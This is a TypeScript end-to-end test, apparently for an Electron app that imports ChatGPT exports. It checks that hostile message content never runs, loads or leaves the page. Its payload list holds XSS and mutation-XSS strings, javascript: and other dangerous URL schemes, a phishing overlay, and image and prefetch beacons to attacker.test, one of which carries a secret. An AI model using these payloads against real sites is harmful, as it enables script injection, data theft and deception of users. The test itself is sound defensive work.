import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { chatGptConversation } from './fixtures/exports.ts'
import { expect, test } from './launch.ts'

/** What a message may hold that wants to run, to leave the page or to be fetched. */
const payloads = [
  '<img src=x onerror="window.__pwn=1">',
  '"><img src=1 onerror="window.__pwn=1">',
  '<!--><img src=x onerror=window.__pwn=1>-->',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwn=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;">',
  '<details open ontoggle=window.__pwn=1>x</details>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  '[a](javascript:window.__pwn=1) [b](JaVaScRiPt:window.__pwn=1) [c](java&Tab;script:window.__pwn=1)',
  '<form><button formaction="javascript:window.__pwn=1">x</button></form>',
  '```fountain"><img src=x onerror=window.__pwn=1>\nx\n```',
  '<form id=api><input name=list></form><img name=api><a id=location href=x>',
  '<meta http-equiv=refresh content="0;url=http://attacker.test/meta">',
  '$$\\href{javascript:window.__pwn=1}{x}$$ $$\\includegraphics[height=1em]{http://attacker.test/k}$$',
  '$$\\htmlStyle{background:url(http://attacker.test/s)}{x}$$ $$\\def\\a{\\a\\a}\\a$$',
  '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:99999">Your session expired</div>',
  '![x](http://attacker.test/p.png?d=SECRET) ![a][r]\n\n[r]: http://attacker.test/ref.png',
  '<video poster=http://attacker.test/v></video><link rel=prefetch href=http://attacker.test/pf>',
  '<svg><image href=http://attacker.test/s></image></svg><object data=http://attacker.test/o></object>',
  '[x](ms-msdt:/id) [y](smb://attacker.test/x) [z](file:///usr/bin/xcalc) [v](vbscript:x) [d](data:text/html,<script>1</script>)',
  '[https://bank.test](https://bank.test@attacker.test/)',
  `${'>'.repeat(10_000)} deep`,
  '['.repeat(50_000),
  `\`\`\`\n${'x'.repeat(1_000_000)}\n\`\`\``,
]

test('whatever a message holds, nothing of it runs, loads or leaves the page', async ({ app, stemma }) => {
  const requests: string[] = []
  app.window.on('request', (request) => requests.push(request.url()))
  const path = join(stemma.folder, 'hostile.json')
  await writeFile(path, JSON.stringify([chatGptConversation('Hostile', payloads)]))
  await app.imports.drop([path])
  await app.imports.expectDone('Conversation imported successfully')
  await app.library.open('Hostile')

  await app.reader.feed.focus()
  for (const [number] of payloads.entries()) {
    await app.window.keyboard.press(number === 0 ? 'Home' : 'ArrowDown')
  }
  await app.window.keyboard.press('End')
  await expect(app.reader.messages.last()).toBeVisible()

  await app.window.keyboard.press('Home')
  const links = app.reader.feed.getByRole('link')
  expect(
    await links.evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? '')),
  ).not.toContainEqual(expect.stringMatching(/^\s*(javascript|vbscript|data|file|smb|ms-)/i))
  await app.exports.open()
  await app.exports.format('HTML').check()
  await expect(app.exports.previewedPage.getByRole('heading', { level: 1 })).toHaveText('Hostile')
  await app.exports.dialog.getByRole('button', { name: 'Cancel' }).click()
  expect(await app.window.evaluate(() => Reflect.get(globalThis, '__pwn') as unknown)).toBeUndefined()
  expect(requests.filter((url) => !/^(app|data|blob):/.test(url))).toEqual([])
  const facts = await app.electron.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getURL()),
  )
  expect(facts).toEqual(['app://main/index.html'])
  await app.window
    .getByRole('navigation', { name: 'Views' })
    .getByRole('button', { name: 'Settings' })
    .click()
  await expect(app.window.getByRole('main', { name: 'Settings' })).toBeVisible()
})
